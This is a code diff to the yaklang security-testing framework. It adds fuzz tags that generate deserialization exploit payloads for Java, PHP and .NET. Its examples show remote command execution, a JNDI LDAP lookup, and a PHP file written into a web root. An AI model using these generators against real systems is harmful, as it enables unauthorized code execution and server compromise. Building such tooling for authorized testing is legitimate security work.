@@ -15,9 +15,11 @@ import (
 	"github.com/yaklang/yaklang/common/consts"
 	"github.com/yaklang/yaklang/common/filter"
 	"github.com/yaklang/yaklang/common/fuzztagx/parser"
+	"github.com/yaklang/yaklang/common/phpggc"
 	"github.com/yaklang/yaklang/common/utils/regen"
 	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
 	"github.com/yaklang/yaklang/common/yso"
+	"github.com/yaklang/yaklang/common/ysonet"
 
 	"github.com/yaklang/yaklang/common/fuzztag"
 	"github.com/yaklang/yaklang/common/log"
@@ -1441,6 +1443,157 @@ func init() {
 			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
 		},
 	})
+	for _, format := range []string{yso.FormatHessian, yso.FormatXStream, yso.FormatFastjson, yso.FormatJackson} {
+		format := format
+		AddFuzzTagToGlobal(&FuzzTagDescription{
+			TagName:     "yso:" + format,
+			Description: fmt.Sprintf("generate %s payloads which execute the command, {{yso:%s(whoami)}}", format, format),
+			HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+				var result []*fuzztag.FuzzExecResult
+				for _, gadget := range yso.GetAllFormatGadget(format) {
+					var payload *yso.FormatPayload
+					var err error
+					switch f := gadget.Generator.(type) {
+					case func(options ...yso.GenClassOptionFun) (*yso.FormatPayload, error):
+						payload, err = f(yso.SetProcessImplExecEvilClass(s))
+					case func(cmd string) (*yso.FormatPayload, error):
+						payload, err = f(s)
+					}
+					if payload == nil || err != nil {
+						continue
+					}
+					result = append(result, fuzztag.NewFuzzExecResult(payload.Bytes(), []string{gadget.GetNameVerbose(), format, s}))
+				}
+				if len(result) > 0 {
+					return result
+				}
+				return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+			},
+		})
+	}
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "yso:jndi",
+		Description: "generate hessian, fastjson and jackson payloads which trigger jndi lookup, {{yso:jndi(ldap://127.0.0.1:1389/a)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			if s == "" {
+				return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+			}
+			var result []*fuzztag.FuzzExecResult
+			for _, payload := range yso.GetAllJNDIPayload(s) {
+				if payload == nil {
+					continue
+				}
+				raw, err := yso.ToBytes(payload)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult(raw, []string{payload.Verbose().GetNameVerbose(), payload.Format, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "phpggc:exec",
+		Description: "generate php POP chain payloads which call system(cmd), {{phpggc:exec(whoami)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			var result []*fuzztag.FuzzExecResult
+			for _, chain := range phpggc.GetAllRCEChains() {
+				payload, err := phpggc.Generate(chain.Name, s)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult(payload.Bytes(), []string{chain.Name, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "phpggc:write",
+		Description: "generate php POP chain payloads which write content to file, {{phpggc:write(/var/www/html/a.php|<?php phpinfo();?>)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			var result []*fuzztag.FuzzExecResult
+			path, content, _ := strings.Cut(s, "|")
+			for _, chain := range phpggc.GetAllFileWriteChains() {
+				payload, err := phpggc.Generate(chain.Name, path, content)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult(payload.Bytes(), []string{chain.Name, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "phpggc:phar",
+		Description: "generate phar files whose metadata is the php POP chain which calls system(cmd), {{phpggc:phar(whoami)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			var result []*fuzztag.FuzzExecResult
+			for _, chain := range phpggc.GetAllRCEChains() {
+				payload, err := phpggc.Generate(chain.Name, s)
+				if err != nil {
+					continue
+				}
+				raw, err := phpggc.ToPhar(payload)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult(raw, []string{chain.Name, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "ysonet:exec",
+		Description: "generate .NET BinaryFormatter and Json.Net payloads which execute the command by cmd.exe, {{ysonet:exec(calc)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			var result []*fuzztag.FuzzExecResult
+			for _, gadget := range ysonet.GetAllGadgets() {
+				payload, err := gadget.Generator(s)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult(payload.Bytes(), []string{gadget.Name, payload.Format, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName:     "ysonet:losformatter",
+		Description: "generate base64 encoded LosFormatter payloads (unsigned ViewState) which execute the command by cmd.exe, {{ysonet:losformatter(calc)}}",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			var result []*fuzztag.FuzzExecResult
+			for _, gadget := range ysonet.GetAllFormatGadgets(ysonet.FormatBinaryFormatter) {
+				payload, err := gadget.Generator(s)
+				if err != nil {
+					continue
+				}
+				los, err := ysonet.ToLosFormatter(payload)
+				if err != nil {
+					continue
+				}
+				result = append(result, fuzztag.NewFuzzExecResult([]byte(los), []string{gadget.Name, s}))
+			}
+			if len(result) > 0 {
+				return result
+			}
+			return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+		},
+	})
 	AddFuzzTagToGlobal(&FuzzTagDescription{
 		TagName: "headerauth",
 		Handler: func(s string) []string {